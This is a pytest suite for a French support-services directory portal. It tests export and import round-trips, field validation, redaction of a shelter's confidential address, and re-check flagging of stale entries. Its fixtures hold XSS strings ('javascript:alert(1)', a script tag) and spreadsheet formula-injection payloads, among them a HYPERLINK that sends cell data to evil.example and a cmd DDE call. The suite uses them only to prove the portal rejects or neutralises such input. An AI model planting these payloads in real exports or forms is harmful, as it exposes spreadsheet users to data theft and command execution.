"""The directory's rules, its import and export, and the list of entries to re-check."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from helpers.factories import stored_entry
from helpers.fixture_types import LoginAs, MakeStaff
from helpers.staff import staff_browser
from helpers.web import csrf_token
from sqlalchemy import delete, func, select

from portal.core import db
from portal.directory import editing, entries, opening_hours, search
from portal.directory.demo import create_demo_directory
from portal.models import AuditEvent, DirectoryEntry, utcnow

SHELTER_ADDRESS = "12 impasse des Glycines"


@pytest.fixture
def directory(app: Flask) -> Flask:
    with app.app_context():
        create_demo_directory()
        db.session().commit()
        tricky = {
            "uid": "tricky",
            "name": 'Service "guillemets", virgules; et |tubes|',
            "category": "social",
            "visibility": "public",
            "fees": "payant",
            "description": 'Ligne 1\nLigne 2, avec « guillemets » et "quotes"',
            "communes": ["Saint-Just-Saint-Rambert"],
            "languages": ["fr", "uk"],
            "opening_hours": "Mo-Fr 09:00-12:00; PH off",
            "phone": "+33 4 65 71 00 30",
        }
        editing.create_entry(tricky, None)
        db.session().commit()
    return app


def export(runner: Any, path: Path, fmt: str, *extra: str) -> str:
    args = ["directory-export", "--format", fmt, "--output", str(path), *extra]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    return path.read_text(encoding="utf-8")


def count_entries(app: Flask) -> int:
    with app.app_context():
        return db.session().scalar(select(func.count()).select_from(DirectoryEntry)) or 0


def wipe_directory(app: Flask) -> None:
    with app.app_context():
        db.session().execute(delete(DirectoryEntry))
        db.session().commit()


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("extra", [(), ("--include-confidential",)], ids=["redacted", "full"])
def test_export_import_export_gives_the_same_file(
    directory: Flask, runner: Any, tmp_path: Path, fmt: str, extra: tuple[str, ...]
) -> None:
    first = export(runner, tmp_path / f"first.{fmt}", fmt, *extra)
    assert count_entries(directory) == 12
    wipe_directory(directory)
    assert count_entries(directory) == 0
    result = runner.invoke(args=["directory-import", str(tmp_path / f"first.{fmt}")])
    assert result.exit_code == 0, result.output
    assert "12 new" in result.output
    assert count_entries(directory) == 12
    second = export(runner, tmp_path / f"second.{fmt}", fmt, *extra)
    assert second == first
    assert (SHELTER_ADDRESS in first) == bool(extra)


def test_json_export_uses_data_inclusion_names(
    directory: Flask, runner: Any, tmp_path: Path
) -> None:
    services = json.loads(export(runner, tmp_path / "x.json", "json"))
    by_id = {s["id"]: s for s in services}
    line = by_id["national-3919"]
    assert line["nom"] == "Violences Femmes Info – 3919"
    assert line["telephone"] == "3919"
    assert line["frais"] == "gratuit"
    assert line["horaires_accueil"] == "24/7"
    assert line["zone_eligibilite"] == ["france"]
    assert line["mobilisable_par"] == ["usagers"]
    assert line["thematiques"] == ["acces-aux-droits-et-citoyennete--aide-aux-victimes"]
    assert by_id["demo-perpetrators"]["x_visibilite"] == "professionals"
    shelter = by_id["demo-shelter"]
    assert shelter["x_adresse_confidentielle"] is True
    assert shelter["adresse"] is None and shelter["code_postal"] is None


def test_reimporting_a_redacted_export_keeps_the_confidential_address(
    directory: Flask, runner: Any, tmp_path: Path
) -> None:
    export(runner, tmp_path / "r.csv", "csv")
    assert runner.invoke(args=["directory-import", str(tmp_path / "r.csv")]).exit_code == 0
    with directory.app_context():
        assert stored_entry("demo-shelter").address == SHELTER_ADDRESS


BAD_CSV_ROWS = [
    # line 2: fine, and would rename an existing entry
    {"id": "demo-legal-aid", "nom": "Renamed by a bad file"},
    # line 3: a phone number that is not one
    {"id": "new-1", "nom": "Bad phone", "telephone": "12"},
    # line 4: a script as web address
    {"id": "new-2", "nom": "Bad site", "site_web": "javascript:alert(1)"},
    # line 5: opening hours in words
    {"id": "new-3", "nom": "Bad hours", "horaires_accueil": "lundi au vendredi 9h"},
    # line 6: a programme for perpetrators on the public page
    {"id": "new-4", "nom": "Bad visibility", "x_categorie": "perpetrators"},
]


def _csv(rows: list[dict[str, str]]) -> str:
    from portal.directory.transfer import to_csv

    base = {"x_categorie": "legal", "x_visibilite": "public", "frais": "gratuit"}
    return to_csv([{**base, **row} for row in rows])


def test_a_bad_file_names_each_bad_line_and_imports_nothing(
    directory: Flask, runner: Any, tmp_path: Path
) -> None:
    before = count_entries(directory)
    path = tmp_path / "bad.csv"
    path.write_text(_csv(BAD_CSV_ROWS), encoding="utf-8")
    result = runner.invoke(args=["directory-import", str(path)])
    assert result.exit_code != 0
    for line in (3, 4, 5, 6):
        assert f"line {line}:" in result.output
    assert "line 2:" not in result.output
    assert "telephone" in result.output and "site_web" in result.output
    assert "horaires_accueil" in result.output and "x_visibilite" in result.output
    assert "nothing was imported" in result.output
    assert count_entries(directory) == before
    with directory.app_context():
        assert stored_entry("demo-legal-aid").name == "Point-justice de Roanne (démo)"


def test_a_bad_json_file_names_the_bad_service(
    directory: Flask, runner: Any, tmp_path: Path
) -> None:
    services = json.loads(export(runner, tmp_path / "x.json", "json"))
    services[1]["courriel"] = "not an address"
    services[3]["x_ouvert_24_7"] = "maybe"
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(services), encoding="utf-8")
    result = runner.invoke(args=["directory-import", str(path)])
    assert result.exit_code != 0
    assert "line 2: courriel" in result.output
    assert "line 4: x_ouvert_24_7" in result.output
    (tmp_path / "broken.json").write_text("[{", encoding="utf-8")
    result = runner.invoke(args=["directory-import", str(tmp_path / "broken.json")])
    assert result.exit_code != 0 and "not valid JSON" in result.output


def test_an_import_is_audited(directory: Flask, runner: Any, tmp_path: Path) -> None:
    export(runner, tmp_path / "a.csv", "csv")
    assert runner.invoke(args=["directory-import", str(tmp_path / "a.csv")]).exit_code == 0
    with directory.app_context():
        actions = db.session().scalars(select(AuditEvent.action)).all()
    assert "directory.import" in actions


@pytest.mark.parametrize(
    "value",
    [
        "24/7",
        "Mo-Fr 09:00-17:00; Sa 09:00-12:00",
        "Mo-Fr 08:30-12:30; PH off",
        "Mo,We 09:00-12:00,14:00-17:00",
        "Mo-Su 22:00-06:00",
        'Tu 14:00-18:00 "sur rendez-vous"',
    ],
)
def test_opening_hours_in_osm_format_are_accepted(value: str) -> None:
    assert opening_hours.valid_opening_hours(value)


@pytest.mark.parametrize(
    "value",
    [
        "",
        "lundi 9h-12h",
        "Mo-Fr 9:00-17:00",
        "Mo-Fr 25:00-26:00",
        "Mo-Fr 09:00-17:00;",
        "Mo-Xy 09:00-10:00",
        "<script>alert(1)</script>",
    ],
)
def test_opening_hours_not_in_osm_format_are_refused(value: str) -> None:
    assert not opening_hours.valid_opening_hours(value)


def test_phones_urls_and_emails_are_checked(app: Flask) -> None:
    base = {"name": "Test service", "category": "legal", "visibility": "public", "fees": "gratuit"}
    with app.app_context():
        clean = entries.clean_entry({**base, "phone": "04 65 71 00 21", "pro_phone": "116 006"})
        assert (clean["phone"], clean["pro_phone"]) == ("+33465710021", "116006")
        for field, value in [
            ("phone", "0465"),
            ("pro_phone", "+1 nonsense"),
            ("website", "javascript:alert(1)"),
            ("website", "data:text/html,x"),
            ("website", "ftp://example.org"),
            ("website", "https://"),
            ("email", "a@b"),
            ("pro_email", "<script>@x.org"),
            ("postcode", "4200"),
            ("languages", ["xx-YY"]),
            ("zone_eligibilite", ["Loire"]),
            ("category", "astrology"),
            ("publics", ["aliens"]),
        ]:
            with pytest.raises(entries.EntryInvalid) as caught:
                entries.clean_entry({**base, field: value})
            assert [p.field for p in caught.value.problems] == [field], (field, value)


def test_a_programme_for_perpetrators_cannot_be_public(app: Flask) -> None:
    with app.app_context(), pytest.raises(entries.EntryInvalid) as caught:
        entries.clean_entry(
            {"name": "Stage", "category": "perpetrators", "visibility": "public", "fees": "payant"}
        )
    assert caught.value.problems[0].code == "perpetrators_public"


def test_demo_command_adds_the_directory_once(app: Flask, runner: Any) -> None:
    for _ in range(2):
        with app.app_context():  # as `flask --app portal demo` runs it
            result = runner.invoke(args=["demo", "--force"])
        assert result.exit_code == 0, result.output
    assert count_entries(app) == 11
    with app.app_context():
        numbers = {e.phone for e in search.public_entries()}
    assert {"17", "112", "114", "3919", "116006", "119", "115"} <= numbers


# --- Staleness --------------------------------------------------------------------------------


FLAG = 'class="tag warn">To re-check'


def _recheck_page(client: Any) -> str:
    response = client.get("/staff/directory/recheck")
    assert response.status_code == 200
    return str(response.get_data(as_text=True))


def test_entries_not_verified_for_six_months_are_flagged_and_listed(
    directory: Flask, clock: Any, make_staff: MakeStaff, login_as: LoginAs
) -> None:
    with directory.app_context():
        for entry in db.session().scalars(select(DirectoryEntry)):
            entry.verified_at = utcnow()
        db.session().commit()
    admin = make_staff("admin")
    client = staff_browser(directory)
    login_as(client, admin)
    assert "Every entry was verified recently." in _recheck_page(client)
    assert FLAG not in client.get("/staff/directory").get_data(as_text=True)
    clock.advance(days=190)
    login_as(client, admin)  # the session ended while the clock moved
    assert client.get("/staff/directory").get_data(as_text=True).count(FLAG) == 12
    page = _recheck_page(client)
    assert "12 entries to re-check" in page
    assert '<h3 dir="auto">Point-justice de Roanne (démo)</h3>' in page
    assert SHELTER_ADDRESS not in page and "42100" not in page
    with directory.app_context():
        legal = stored_entry("demo-legal-aid")
        assert search.is_stale(legal)
    token = csrf_token(client, "/staff/directory/recheck")
    response = client.post(
        f"/staff/directory/{legal.id}/verify", data={"csrf_token": token, "next": "recheck"}
    )
    assert response.status_code == 303
    page = _recheck_page(client)
    assert "11 entries to re-check" in page
    assert '<h3 dir="auto">Point-justice de Roanne (démo)</h3>' not in page
    with directory.app_context():
        legal = stored_entry("demo-legal-aid")
        assert not search.is_stale(legal)
        assert legal.verified_by == admin.username
        event = (
            db.session()
            .scalars(select(AuditEvent).where(AuditEvent.action == "directory.verify"))
            .one()
        )
        assert event.target == "directory:demo-legal-aid" and event.actor == admin.username


def test_staleness_is_measured_from_the_last_verification(app: Flask) -> None:
    with app.app_context():
        now = dt.datetime(2026, 6, 1)
        entry = DirectoryEntry(uid="x", name="x", category="legal", verified_at=now)
        assert not search.is_stale(entry, now + dt.timedelta(days=180))
        assert search.is_stale(entry, now + dt.timedelta(days=184))
        assert search.is_stale(DirectoryEntry(uid="y", name="y", category="legal"), now)


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "description": "+cmd|' /C calc'!A0",
    "opening_hours": "Mo-Fr 09:00-12:00",
    "accessibility": "-2+3",
    "referral_procedure": "@SUM(1+1)",
}


def formula_entry(app: Flask) -> None:
    with app.app_context():
        values = {"uid": "formula", "category": "social", "visibility": "public", **FORMULAS}
        editing.create_entry({**values, "communes": ["Roanne"], "fees": "gratuit"}, None)
        db.session().commit()


def assert_no_cell_runs_as_a_formula(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    for value in FORMULAS.values():
        if value[0] in "=+-@":
            assert "'" + value in cells, value


def test_a_directory_export_never_writes_a_cell_a_spreadsheet_would_run(
    directory: Flask,
    runner: Any,
    tmp_path: Path,
    make_staff: MakeStaff,
    login_as: LoginAs,
) -> None:
    formula_entry(directory)
    exported = export(runner, tmp_path / "x.csv", "csv")
    assert_no_cell_runs_as_a_formula(exported)
    client = staff_browser(directory)
    login_as(client, make_staff("admin"))
    response = client.get("/staff/directory/export?format=csv")
    assert response.status_code == 200
    assert_no_cell_runs_as_a_formula(response.get_data(as_text=True))
    # Imported again, the cells are what was typed, not the neutralised text.
    wipe_directory(directory)
    assert runner.invoke(args=["directory-import", str(tmp_path / "x.csv")]).exit_code == 0
    with directory.app_context():
        entry = stored_entry("formula")
        assert entry is not None and entry.name == FORMULAS["name"]
        assert entry.description == FORMULAS["description"]
    assert export(runner, tmp_path / "y.csv", "csv") == exported
